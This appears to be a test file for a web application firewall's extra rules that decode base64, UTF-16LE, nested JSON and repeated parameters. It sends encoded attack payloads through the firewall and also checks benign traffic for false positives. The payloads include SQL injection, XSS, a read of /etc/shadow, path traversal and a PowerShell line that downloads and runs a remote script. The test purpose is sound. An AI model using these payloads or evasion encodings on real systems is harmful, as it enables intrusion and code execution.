// Extra rule sets (src/waf/extra, issue #16): the decoders on their own, then the sets inside the
// CRS (PL1, blocking): true positives from documented attack encodings that the CRS alone lets
// through, true negatives from benign base64 (images, JWTs, UUID-like tokens, random ids), and a
// generated benign corpus on which no extra rule may fire.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes, randomUUID } from 'node:crypto';
import { join } from 'node:path';

import { base64Texts, jsonLeaves } from '../../../src/waf/extra/decoders.ts';
import { joinedArgs, joinKey } from '../../../src/waf/extra/joined.ts';
import { extraRulesText, parseExtraRuleSets } from '../../../src/waf/extra/index.ts';
import { loadWaf, type Waf } from '../../../src/waf/index.ts';
import { configFromCli, configFromJson } from '../../../src/waf/agent/config.ts';
import { crsDir } from '../waf-regex/crs-rules.ts';
import { conformanceData, describeNeeding } from '../../helpers/needs.ts';

const b64 = (s: string): string => Buffer.from(s).toString('base64');
const b64url = (s: string): string => Buffer.from(s).toString('base64url');
const b64le = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');
// A 1x1 PNG and the start of a JPEG (JFIF header), as data URIs and JSON fields carry them.
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
const JPEG = '/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=';
const JWT =
  'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c';

describe('decoders', () => {
  const cases: { name: string; value: string; want: string[] }[] = [
    { name: 'padded base64 value', value: b64("1' UNION SELECT password FROM users--"), want: ["1' UNION SELECT password FROM users--"] },
    { name: 'unpadded base64url value', value: b64url('<script>alert(1)</script>?>'), want: ['<script>alert(1)</script>?>'] },
    { name: 'token inside a longer value', value: `Bearer ${b64('../../etc/passwd')}`, want: ['../../etc/passwd'] },
    { name: 'JWT: JSON segments yield their leaves, the signature is binary', value: JWT, want: ['alg', 'HS256', 'typ', 'JWT', 'sub', '1234567890', 'name', 'John Doe', 'iat'] },
    { name: 'PNG', value: PNG, want: [] },
    { name: 'JPEG', value: JPEG, want: [] },
    { name: 'UUID', value: '550e8400-e29b-41d4-a716-446655440000', want: [] },
    { name: 'hex session id', value: '8f14e45fceea167a5a36dedd4bea2543', want: [] },
    { name: 'short value', value: 'abc', want: [] },
    { name: 'a path', value: '/products/search/running-shoes', want: [] },
  ];
  for (const c of cases) test(`base64Texts: ${c.name}`, () => assert.deepEqual(base64Texts(c.value), c.want));

  // Session 24 WAF evasion audit: Node's Buffer.from(s, 'base64') and Python's b64decode skip every
  // character outside the alphabet; a run-by-run reader saw pieces too short or misaligned.
  const union = "1' UNION SELECT password FROM users--";
  const skipped: { name: string; value: string; want: string }[] = [
    { name: 'junk characters inside', value: `${b64(union).slice(0, 4)}.${b64(union).slice(4, 8)}!${b64(union).slice(8)}`, want: union },
    { name: 'aligned 12-character runs joined by dots', value: b64(union).match(/.{1,12}/g)!.join('.'), want: union },
    { name: 'MIME line breaks', value: b64(union).match(/.{1,8}/g)!.join('\r\n'), want: union },
    { name: 'percent-encoded + / = (a cookie the application URL-decodes)', value: encodeURIComponent(b64("1' OR '1'='1'>>>>")), want: "1' OR '1'='1'>>>>" },
    { name: 'a payload padded with UTF-8 text', value: b64(`${union} ${'é'.repeat(30)}`), want: Buffer.from(`${union} ${'é'.repeat(30)}`).toString('latin1') },
  ];
  for (const c of skipped) test(`base64Texts: ${c.name}`, () => assert.ok(base64Texts(c.value).includes(c.want), JSON.stringify(base64Texts(c.value))));
  test('base64Texts: binary with line breaks and sentences are not text when read across their separators', () => {
    const mime = randomBytes(300).toString('base64').match(/.{1,76}/g)!.join('\r\n');
    assert.deepEqual(base64Texts(mime), []);
    assert.deepEqual(base64Texts(PNG.match(/.{1,20}/g)!.join('\n')), []);
    assert.deepEqual(base64Texts('Please select one item from the list of running shoes, size 42'), []);
  });

  test('random ids (base64url, 16-48 bytes) never decode to text', () => {
    for (let i = 0; i < 500; i++) {
      const id = randomBytes(16 + (i % 33)).toString(i % 2 ? 'base64url' : 'base64');
      assert.deepEqual(base64Texts(id), [], id);
    }
  });

  const json: { name: string; value: string; want: string[] }[] = [
    { name: 'object leaves and keys', value: '{"query":"a b","n":1,"tags":["x"]}', want: ['query', 'a b', 'tags', 'x'] },
    { name: 'unicode escapes decoded', value: '{"q":"\\u0027 or 1=1"}', want: ["' or 1=1"] },
    { name: 'JSON inside a JSON string', value: JSON.stringify({ p: JSON.stringify({ q: 'v' }) }), want: ['{"q":"v"}', 'v'] },
    { name: 'not JSON', value: 'hello {world}', want: [] },
    { name: 'broken JSON', value: '{"a":', want: [] },
  ];
  for (const c of json) test(`jsonLeaves: ${c.name}`, () => assert.deepEqual(jsonLeaves(c.value), c.want));

  // session 24 WAF evasion audit: no cap an attacker can pad past
  test('jsonLeaves: every leaf behind 300 others, 40 levels deep, past 64 KiB', () => {
    const q = "' or 1=1--";
    assert.equal(jsonLeaves(JSON.stringify({ pad: Array.from({ length: 300 }, (_, i) => `v${i}`), q })).at(-1), q);
    let deep: unknown = { q };
    for (let i = 0; i < 40; i++) deep = [deep];
    assert.deepEqual(jsonLeaves(JSON.stringify(deep)), [q]);
    assert.equal(jsonLeaves(JSON.stringify({ pad: 'x'.repeat(70000), q })).at(-1), q);
    // as deep as JSON.parse goes (V8 parses iteratively): no stack overflow of ours
    assert.deepEqual(jsonLeaves(`${'['.repeat(100000)}${JSON.stringify({ q })}${']'.repeat(100000)}`), [q]);
  });
  test('base64Texts: a payload behind 40 benign texts', () => {
    const value = `${Array.from({ length: 40 }, (_, i) => b64(`hello world ${i}`)).join(' ')} ${b64("1' or 1=1--")}`;
    assert.equal(base64Texts(value).at(-1), "1' or 1=1--");
  });
});

describe('ARGS_JOINED (the hpp set)', () => {
  const item = (key: string, value: string) => ({ key, value });
  test('joinKey: qs and JSON array names gather under their base name', () => {
    assert.equal(joinKey('q[]'), 'q');
    assert.equal(joinKey('q[12]'), 'q');
    assert.equal(joinKey('q[a]'), 'q[a]');
    assert.equal(joinKey('json.q.3'), 'json.q');
    assert.equal(joinKey('json.q.a'), 'json.q.a');
    assert.equal(joinKey('json.3'), 'json.3');
    assert.equal(joinKey('a.3'), 'a.3');
  });
  test('joinedArgs: per source, and across the query and the body', () => {
    assert.deepEqual(joinedArgs([[item('q', 'a'), item('x', '1'), item('q', 'b')], []]), [{ key: 'q', value: 'a,b' }]);
    assert.deepEqual(joinedArgs([[item('q', 'a')], [item('q', 'b'), item('q[]', 'c')]]), [{ key: 'q', value: 'b,c' }, { key: 'q', value: 'a,b,c' }]);
    assert.deepEqual(joinedArgs([[item('q', 'a')], [item('q', 'b')]]), [{ key: 'q', value: 'a,b' }]);
    assert.deepEqual(joinedArgs([[item('q', 'a'), item('r', 'b')], [item('s', 'c')]]), []);
  });
});

describe('configuration', () => {
  test('--extra-rules, the environment and the Configure key', () => {
    assert.deepEqual(configFromCli(['--extra-rules', 'base64,headers'], {}).extraRules, ['base64', 'headers']);
    assert.deepEqual(configFromCli([], { SENTINEL_WAF_EXTRA_RULES: 'all' }).extraRules, ['base64', 'headers', 'json', 'hpp']);
    assert.deepEqual(configFromJson(configFromCli([], {}), { 'extra-rules': ['json'] }).extraRules, ['json']);
    assert.throws(() => configFromCli(['--extra-rules', 'base65'], {}), /unknown extra rule set "base65"/);
    assert.deepEqual(parseExtraRuleSets('Base64, json,base64'), ['base64', 'json']);
  });

  test('no set, no rule', () => assert.equal(extraRulesText([], '/crs/rules'), ''));
});

describeNeeding(conformanceData('crs').missing, 'extra rule sets in the CRS (PL1, blocking)', {}, () => {
  const rulesDir = join(crsDir, 'rules');
  let crsOnly: Waf | undefined;
  let withExtra: Waf | undefined;
  const wafs = (): { crsOnly: Waf; withExtra: Waf } => {
    crsOnly ??= loadWaf({ mode: 'blocking', paranoiaLevel: 1, crsDir });
    withExtra ??= loadWaf({ mode: 'blocking', paranoiaLevel: 1, crsDir, directives: extraRulesText(['base64', 'headers', 'json', 'hpp'], rulesDir) });
    return { crsOnly, withExtra };
  };
  const BROWSER: [string, string][] = [
    ['Host', 'shop.example'],
    ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0'],
    ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
    ['Accept-Language', 'en-US,en;q=0.5'],
  ];

  interface Req {
    uri: string;
    headers?: [string, string][];
    body?: string;
    type?: string;
  }
  function run(waf: Waf, r: Req): { blocked: boolean; extra: number[]; score: number } {
    const headers: [string, string][] = [...BROWSER, ...(r.headers ?? [])];
    if (r.body !== undefined) headers.push(['Content-Type', r.type ?? 'application/json'], ['Content-Length', String(Buffer.byteLength(r.body))]);
    const tx = waf.newTransaction({ clientIp: '192.0.2.7', clientPort: 40000, serverPort: 443, method: r.body === undefined ? 'GET' : 'POST', uri: r.uri, protocol: 'HTTP/1.1', headers });
    let it = tx.processRequestHeaders();
    if (!it && r.body !== undefined) it = tx.appendRequestBody(Buffer.from(r.body));
    if (!it) it = tx.processRequestBody();
    const extra = tx.matchedRules().map((m) => m.id).filter((id) => id >= 990100 && id <= 990199);
    return { blocked: it !== undefined, extra, score: Number(tx.getTx('blocking_inbound_anomaly_score') ?? 0) };
  }

  // Encodings from the OWASP testing guide / PayloadsAllTheThings "WAF bypass" sections: the
  // payload base64-encoded (padded, base64url, unpadded) in a query argument, a JSON field, a
  // cookie and a header; and plain payloads in headers the CRS does not read.
  const positives: { name: string; req: Req; rule: number }[] = [
    { name: 'base64 SQLi in a query argument', req: { uri: `/search?data=${encodeURIComponent(b64("1' UNION SELECT password FROM users--"))}` }, rule: 990101 },
    { name: 'base64url XSS, unpadded, in a query argument', req: { uri: `/p?t=${b64url('<script>alert(document.cookie)</script>')}` }, rule: 990102 },
    { name: 'base64 XSS in a custom header', req: { uri: '/', headers: [['X-Data', b64('<img src=x onerror=alert(1)>')]] }, rule: 990102 },
    { name: 'base64 path traversal in an argument', req: { uri: `/dl?f=${encodeURIComponent(b64('../../../../etc/passwd'))}` }, rule: 990104 },
    { name: 'base64 shell command in an argument', req: { uri: `/run?c=${encodeURIComponent(b64('; cat /etc/shadow'))}` }, rule: 990105 },
    { name: 'base64 SQLi in a JSON field', req: { uri: '/api/items', body: JSON.stringify({ q: b64("' or 1=1 -- ") }) }, rule: 990101 },
    { name: 'base64 SQLi in a cookie', req: { uri: '/', headers: [['Cookie', `prefs=${b64("admin' --")}`]] }, rule: 990101 },
    // session 24 WAF evasion audit: what Node's and Python's base64 decoders skip
    { name: 'base64 SQLi with junk characters inside', req: { uri: `/search?data=${encodeURIComponent(b64("1' UNION SELECT password FROM users--").replace(/(.{5})/g, '$1.'))}` }, rule: 990101 },
    // session 27: decoded twice, UTF-16LE (.NET's Encoding.Unicode), PowerShell's -EncodedCommand
    { name: 'base64 of base64 SQLi in a query argument', req: { uri: `/search?data=${encodeURIComponent(b64(b64("1' UNION SELECT password FROM users--")))}` }, rule: 990101 },
    { name: 'three layers of base64 XSS', req: { uri: `/p?t=${encodeURIComponent(b64(b64(b64('<script>alert(document.cookie)</script>'))))}` }, rule: 990102 },
    { name: 'UTF-16LE base64 SQLi in a JSON field', req: { uri: '/api/items', body: JSON.stringify({ q: b64le("1' UNION SELECT password FROM users--") }) }, rule: 990101 },
    { name: 'PowerShell -EncodedCommand (UTF-16LE base64) in an argument', req: { uri: `/run?c=${encodeURIComponent(b64le("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"))}` }, rule: 990106 },
    { name: 'UTF-16LE base64 of base64 SQLi', req: { uri: `/search?data=${encodeURIComponent(b64(b64le("1' UNION SELECT password FROM users--")))}` }, rule: 990101 },
    { name: 'base64 SQLi cut into MIME lines in a JSON field', req: { uri: '/api/items', body: JSON.stringify({ q: b64("1' UNION SELECT password FROM users--").match(/.{1,12}/g)!.join('\r\n') }) }, rule: 990101 },
    { name: 'base64 SQLi in a cookie with percent-encoded + and /', req: { uri: '/', headers: [['Cookie', `prefs=${encodeURIComponent(b64("?>>1' or 'a'='a"))}`]] }, rule: 990101 },
    { name: 'base64 SQLi padded with UTF-8 text', req: { uri: `/search?data=${encodeURIComponent(b64(`1' UNION SELECT password FROM users-- ${'日本語'.repeat(10)}`))}` }, rule: 990101 },
    { name: 'SQLi in X-Forwarded-Host', req: { uri: '/', headers: [['X-Forwarded-Host', "1' or '1'='1"]] }, rule: 990111 },
    { name: 'SQLi in a custom header', req: { uri: '/', headers: [['X-Api-Version', '1 UNION SELECT NULL,version()--']] }, rule: 990111 },
  ];
  for (const p of positives) {
    test(`blocks: ${p.name} (the CRS alone does not)`, () => {
      const { crsOnly: plain, withExtra: extra } = wafs();
      assert.equal(run(plain, p.req).blocked, false, 'the CRS alone should miss this one (else the case proves nothing)');
      const r = run(extra, p.req);
      assert.ok(r.extra.includes(p.rule), `rule ${p.rule} matched: ${r.extra.join(',')}`);
      assert.equal(r.blocked, true);
      assert.ok(r.score >= 5, `the score adds to the CRS anomaly score (${r.score})`);
    });
  }

  const jsonPositives: { name: string; req: Req; rule: number }[] = [
    { name: 'JSON with a unicode-escaped quote in an argument', req: { uri: `/?f=${encodeURIComponent('{"q":"\\u0027 or 1=1--"}')}` }, rule: 990121 },
    { name: 'JSON in a header, escaped script tag', req: { uri: '/', headers: [['X-Filter', '{"name":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}']] }, rule: 990122 },
    { name: 'JSON inside a JSON string', req: { uri: '/api', body: JSON.stringify({ payload: JSON.stringify({ q: "1' or '1'='1" }) }) }, rule: 990121 },
    { name: 'XML attribute', req: { uri: '/api', body: '<?xml version="1.0"?><a x="&apos; or 1=1--">hi</a>', type: 'application/xml' }, rule: 990123 },
    // session 24: behind more leaves than the old cap of 256, in a form field
    { name: 'JSON in a form field, the payload after 300 leaves', req: { uri: '/api', body: `f=${encodeURIComponent(JSON.stringify({ pad: Array.from({ length: 300 }, (_, i) => `v${i}`), q: '\\u0027 or 1=1--' }).replace('\\\\u0027', '\\u0027'))}`, type: 'application/x-www-form-urlencoded' }, rule: 990121 },
  ];
  for (const p of jsonPositives) {
    test(`json set detects: ${p.name}`, () => {
      const r = run(wafs().withExtra, p.req);
      assert.ok(r.extra.includes(p.rule), `rule ${p.rule} matched: ${r.extra.join(',')}`);
      assert.equal(r.blocked, true);
    });
  }

  // Session 30 WAF evasion audit: a payload split across one name's values, each half benign to
  // the CRS (and to ModSecurity with the same CRS: 200), which ASP.NET and Node's array toString
  // join with ',' (942100 refuses the join).
  const hppPositives: { name: string; req: Req; rule: number }[] = [
    { name: "q=1' OR/* & q=*/1=1-- in the query", req: { uri: `/p?q=${encodeURIComponent("1' OR/*")}&q=${encodeURIComponent('*/1=1--')}` }, rule: 990131 },
    { name: 'q[]= twice (qs)', req: { uri: `/p?q[]=${encodeURIComponent("1' WAITFOR/*")}&q[]=${encodeURIComponent("*/DELAY '0:0:5'--")}` }, rule: 990131 },
    { name: 'q[0]= and q[1]= (qs)', req: { uri: `/p?q[0]=${encodeURIComponent('1; DROP/*')}&q[1]=${encodeURIComponent('*/TABLE users--')}` }, rule: 990131 },
    { name: 'a form body', req: { uri: '/p', body: `q=${encodeURIComponent("1' OR/*")}&q=${encodeURIComponent('*/1=1--')}`, type: 'application/x-www-form-urlencoded' }, rule: 990131 },
    { name: 'one half in the query, one in the body (Request.Params)', req: { uri: `/p?q=${encodeURIComponent("1' OR/*")}`, body: `q=${encodeURIComponent('*/1=1--')}`, type: 'application/x-www-form-urlencoded' }, rule: 990131 },
    { name: 'a JSON array', req: { uri: '/p', body: JSON.stringify({ q: ["1' GROUP BY/*", '*/username,password HAVING 1=1--'] }) }, rule: 990131 },
  ];
  for (const p of hppPositives) {
    test(`hpp set blocks: ${p.name} (the CRS alone does not)`, () => {
      const { crsOnly: plain, withExtra: extra } = wafs();
      assert.equal(run(plain, p.req).blocked, false, 'the CRS alone should miss this one (else the case proves nothing)');
      const r = run(extra, p.req);
      assert.ok(r.extra.includes(p.rule), `rule ${p.rule} matched: ${r.extra.join(',')}`);
      assert.equal(r.blocked, true);
    });
  }

  const negatives: { name: string; req: Req }[] = [
    { name: 'JWT bearer token', req: { uri: '/me', headers: [['Authorization', `Bearer ${JWT}`]] } },
    { name: 'PNG and JPEG in a JSON body', req: { uri: '/api/avatar', body: JSON.stringify({ png: PNG, jpeg: `data:image/jpeg;base64,${JPEG}` }) } },
    { name: 'UUIDs in query and headers', req: { uri: `/o?id=${randomUUID()}`, headers: [['X-Request-Id', randomUUID()], ['X-Correlation-Id', randomUUID()]] } },
    { name: 'client hints and ETags', req: { uri: '/', headers: [['Sec-Ch-Ua', '"Chromium";v="120", "Not?A_Brand";v="8"'], ['Sec-Ch-Ua-Platform', '"Linux"'], ['If-None-Match', 'W/"5e15153d-120f"']] } },
    { name: 'base64 of an ordinary sentence', req: { uri: `/?msg=${encodeURIComponent(b64('Meet me at the station at 5 pm, bring the tickets.'))}` } },
    // session 24: values whose separators the base64 set now reads across
    { name: 'base64 of a UTF-8 sentence', req: { uri: `/?msg=${encodeURIComponent(b64('Rendez-vous à la gare à 17 h, café compris. Grüße, 東京'))}` } },
    { name: 'MIME-wrapped image and random bytes in a JSON body', req: { uri: '/api/upload', body: JSON.stringify({ png: PNG.match(/.{1,76}/g)!.join('\r\n'), blob: randomBytes(600).toString('base64').match(/.{1,76}/g)!.join('\n') }) } },
    { name: 'framework session cookies (Flask, Rails, Django signed)', req: { uri: '/', headers: [['Cookie', `session=${b64url('{"user_id":42,"cart":["sku-1"]}')}.ZXhhbXBsZQ.${randomBytes(20).toString('base64url')}; _app_session=${b64('{"session_id":"abc123","csrf":"tok"}')}--${randomBytes(20).toString('hex')}; sig=${b64url('user:42')}:1pQx2Z:${randomBytes(16).toString('base64url')}`]] } },
    {
      name: 'HTTP message signatures (RFC 9421) and digests',
      req: {
        uri: '/api/orders',
        headers: [
          ['Signature-Input', 'sig1=("@method" "@target-uri" "content-digest");created=1618884473;keyid="test-key-rsa-pss"'],
          ['Signature', `sig1=:${randomBytes(64).toString('base64')}:`],
          ['Accept-Signature', 'sig1=("@status" "content-digest");keyid="k1"'],
          ['Content-Digest', `sha-256=:${randomBytes(32).toString('base64')}:`],
        ],
      },
    },
    // session 27: the layers and UTF-16LE the set now reads, on benign values
    { name: 'base64 of base64 of a sentence, UTF-16LE base64 of a sentence and of a Windows path', req: { uri: `/?a=${encodeURIComponent(b64(b64('Meet me at the station at 5 pm, bring the tickets.')))}&b=${encodeURIComponent(b64le('Quarterly report, final version (2)'))}&c=${encodeURIComponent(b64le('C:\\Users\\Public\\Documents\\report.docx'))}` } },
    { name: 'UTF-16LE-looking binary (a BMP header, zero-filled bytes) and a base64 JWT', req: { uri: '/api/upload', body: JSON.stringify({ bmp: Buffer.concat([Buffer.from('BM'), Buffer.alloc(120)]).toString('base64'), token: b64(JWT), zeros: Buffer.alloc(64).toString('base64') }) } },
    // session 30: repeated names as shops, search forms and APIs send them (the hpp set joins them)
    { name: 'repeated filters, tags, ids and sorts', req: { uri: `/shop?tag=red&tag=blue&tag=x-large&size=42&size=43&sort=name&sort=-date&id=1&id=2&id=3&price=10-20&price=20-50&color[]=navy&color[]=off-white&q=rock+%26+roll&q=drum%27n%27bass` } },
    { name: 'repeated names with prose, quotes and dashes', req: { uri: `/search?q=${encodeURIComponent("O'Neil")}&q=${encodeURIComponent("D'Arcy")}&note=${encodeURIComponent('Leave it at the door -- thanks')}&note=${encodeURIComponent("don't ring, it's late")}&exclude=${encodeURIComponent('select models')}&exclude=${encodeURIComponent('from 2019')}` } },
    { name: 'a form with checkboxes and a JSON body with arrays', req: { uri: '/checkout', body: JSON.stringify({ items: ['SKU-1', 'SKU-2', 'gift wrap'], notes: ["it's a gift", 'deliver after 5 pm'], ids: [1, 2, 3], tags: ['a-b', 'c/d', 'e&f'] }) } },
    { name: 'Accept, Accept-Language and a URL argument', req: { uri: `/r?next=${encodeURIComponent('https://shop.example/orders/2024/summary?page=2&sort=date')}`, headers: [['Accept-Language', 'fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5'], ['Link', '<https://shop.example/style.css>; rel=preload; as=style']] } },
  ];
  for (const n of negatives) {
    test(`no extra rule fires: ${n.name}`, () => {
      const r = run(wafs().withExtra, n.req);
      assert.deepEqual(r.extra, []);
      // Same verdict and score as the CRS alone (a CRS false positive stays the CRS's).
      const plain = run(wafs().crsOnly, n.req);
      assert.equal(r.blocked, plain.blocked);
      assert.equal(r.score, plain.score);
    });
  }

  test('false positives: no extra rule fires on a generated benign corpus', () => {
    const { withExtra: extra } = wafs();
    const words = ['blue', 'running', 'shoes', 'order', 'gift', 'wrap', 'Lyon', 'Paris', 'size', 'red', 'delivery', 'tomorrow', 'thanks', 'hello', 'world', 'café', 'naïve', 'O\'Brien', '50%', 'a&b', 'x-large'];
    let seed = 42;
    const rnd = (n: number): number => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed % n;
    };
    const sentence = (): string => Array.from({ length: 2 + rnd(8) }, () => words[rnd(words.length)]).join(' ');
    const fired: string[] = [];
    const total = 300;
    for (let i = 0; i < total; i++) {
      const claims = b64url(JSON.stringify({ sub: String(100000 + i), name: sentence(), roles: ['user'], exp: 1700000000 + i }));
      const token = `${b64url('{"alg":"RS256","typ":"JWT"}')}.${claims}.${randomBytes(64).toString('base64url')}`;
      const req: Req = {
        uri: `/shop/search?q=${encodeURIComponent(sentence())}&page=${rnd(50)}&ref=${randomBytes(12).toString('base64url')}&note=${encodeURIComponent(b64(sentence()))}&n2=${encodeURIComponent(b64(b64(sentence())))}&w=${encodeURIComponent(b64le(sentence()))}&id=${b64(randomUUID())}`,
        headers: [
          ['Authorization', `Bearer ${token}`],
          ['X-Request-Id', randomUUID()],
          ['Accept-Encoding', 'gzip, deflate, br'],
          ['Cookie', `sid=${randomBytes(16).toString('hex')}; cart=${b64(JSON.stringify({ items: rnd(9) }))}`],
          ['If-None-Match', `"${randomBytes(8).toString('hex')}"`],
        ],
        ...(i % 2
          ? {
              body: JSON.stringify({
                order: { id: randomUUID(), note: sentence(), lines: [{ sku: `SKU-${rnd(9999)}`, qty: 1 + rnd(5) }] },
                image: i % 4 === 1 ? PNG : randomBytes(96).toString('base64'),
                meta: JSON.stringify({ source: 'web', campaign: sentence() }),
              }),
            }
          : {}),
      };
      const r = run(extra, req);
      if (r.extra.length) fired.push(`${r.extra.join(',')} on ${JSON.stringify(req).slice(0, 300)}`);
    }
    assert.deepEqual(fired, [], `${fired.length} of ${total} benign requests hit an extra rule`);
  });
});
